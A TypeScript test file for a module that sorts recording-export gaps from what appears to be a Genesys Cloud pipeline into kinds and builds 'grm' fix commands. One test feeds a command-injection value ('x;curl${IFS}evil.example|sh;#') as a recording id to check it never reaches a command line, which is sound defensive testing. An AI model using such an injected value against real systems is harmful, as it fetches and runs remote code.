/**
 * Gap kinds (core/gap-kinds.ts): each reason the exporter and the checker
 * write falls into the kind whose fix and command fit it, and the groups
 * come out largest first, their gaps in a stable order.
 */
import {RESTORE_REQUESTED} from '../../functions/core/recording-outcomes';
import * as assert from 'node:assert';
import {gapAction, gapGroups, gapKind} from '../../functions/core/gap-kinds';

const DAY = '2026-03-29';

describe('gap kinds', () => {
  it('should give each reason the exporter and the checker write its kind', () => {
    const cases: Array<[string, string]> = [
      ['archived at the source (fileState ARCHIVED): restore it, then replay', 'archived'],
      ['being restored from the archive (fileState RESTORING): replay later', 'restoring'],
      [`archived at the source (fileState ARCHIVED): ${RESTORE_REQUESTED}`, 'restore-requested'],
      [
        `being restored from the archive (fileState RESTORING): ${RESTORE_REQUESTED}`,
        'restore-requested',
      ],
      ['still uploading at the source (fileState UPLOADING): replay later', 'uploading'],
      ['in an error state at the source (fileState ERROR)', 'source-error'],
      ['the batch download request returned no result for it in time', 'left-out'],
      ['gs object x already exists with different content', 'name-taken'],
      [
        "gs object x is in the bucket, but the day's plan does not hold its conversation",
        'unplanned-conversation',
      ],
      ['gs object x also holds recording r, besides y that the batch report names', 'two-objects'],
      [
        'a recording object is in the bucket, but the batch report does not account for recording r',
        'report-disagrees',
      ],
      ['unsupported media type "fax"', 'unsupported-media'],
      ['batch failed on 4 deliveries; the last error: boom', 'batch-failed'],
      [
        'a gap of this run that the batch report no longer accounts for (recording r): it was neither exported nor skipped',
        'report-disagrees',
      ],
      ['unexpected fileState FROZEN', 'unexpected-state'],
      [
        'the batch download request completed without a result for it: the OAuth client may lack',
        'left-out',
      ],
      ['planned but missing from the batch report', 'batch-failed'],
      ['download URL kept expiring before it could be used', 'transient'],
      ['conversation not found in Genesys Cloud', 'transient'],
      ['Genesys batch download error: socket hang up', 'transient'],
    ];
    assert.deepStrictEqual(
      cases.map(([reason]) => gapKind(reason)),
      cases.map(([, kind]) => kind),
    );
  });

  it('should end each action with the grm command that follows the fix', () => {
    assert.match(
      gapAction('archived at the source (fileState ARCHIVED)', DAY),
      /^restore the recordings from the archive in Genesys Cloud \(grm restore 2026-03-29 has .*\), then `grm replay 2026-03-29 --wait 600`$/,
    );
    assert.match(
      gapAction(`archived at the source (fileState ARCHIVED): ${RESTORE_REQUESTED}`, DAY),
      /^nothing: the pipeline exports them .*grm restore 2026-03-29 asks again; see `grm restore status`$/,
    );
    assert.match(
      gapAction("x, but the day's plan does not hold its conversation", DAY),
      /then `grm rerun 2026-03-29`$/,
    );
    assert.match(
      gapAction('in an error state at the source (fileState ERROR)', DAY),
      /accept them with `grm waive 2026-03-29 --recording ID --reason \.\.\. --by EMAIL`$/,
    );
  });

  it('should group the largest kind first, name at most maxNamed well-formed recording ids to waive, and keep conversation order', () => {
    const uuid = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
    const gap = (c: string, r: string | undefined, reason: string) => ({
      batchId: 'b1',
      conversationId: c,
      ...(r ? {recordingId: r} : {}),
      reason,
    });
    const groups = gapGroups(
      [
        gap('c3', uuid(3), 'fileState ERROR'),
        gap('c1', uuid(1), 'fileState ERROR'),
        gap('c2', uuid(2), 'fileState ERROR'),
        gap('c4', 'x;curl${IFS}evil.example|sh;#', 'fileState ERROR'),
        gap('c9', undefined, 'batch failed: x'),
      ],
      DAY,
      2,
    );
    assert.deepStrictEqual(
      groups.map(g => [g.kind, g.gaps.map(x => x.conversationId)]),
      [
        ['source-error', ['c1', 'c2', 'c3', 'c4']],
        ['batch-failed', ['c9']],
      ],
    );
    assert.match(
      groups[0]!.command,
      new RegExp(`^grm waive 2026-03-29 --recording ${uuid(1)} --recording ${uuid(2)} --reason `),
    );
    assert.strictEqual(groups[0]!.named, 2);
    assert.strictEqual(groups[1]!.command, 'grm replay 2026-03-29 --wait 600');
    // A recording id that is not a Genesys id never reaches a command line.
    const hostile = gapGroups([gap('c4', 'x;curl${IFS}evil.example|sh;#', 'fileState ERROR')], DAY);
    assert.match(hostile[0]!.command, /--recording ID --reason/);
    assert.doesNotMatch(hostile[0]!.command, /curl/);
  });

  it('should group a day of 100,000 gaps (a whole failed day) without copying lists per gap', () => {
    const many = Array.from({length: 100_000}, (_, i) => ({
      batchId: 'b1',
      conversationId: `c${i}`,
      recordingId: `r${i}`,
      reason: i % 2 ? 'fileState ERROR' : 'fileState ARCHIVED',
    }));
    const groups = gapGroups(many, DAY);
    assert.deepStrictEqual(
      groups.map(g => g.gaps.length),
      [50_000, 50_000],
    );
  });
});
